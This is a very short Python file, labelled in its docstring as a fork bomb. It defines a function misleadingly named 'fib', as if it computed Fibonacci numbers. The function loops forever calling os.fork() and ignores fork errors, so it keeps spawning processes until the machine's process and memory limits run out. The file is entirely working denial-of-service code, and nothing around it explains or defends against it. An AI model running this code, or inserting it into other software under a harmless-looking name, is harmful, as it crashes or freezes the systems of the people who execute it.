"""A fork bomb."""

import os


def fib(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
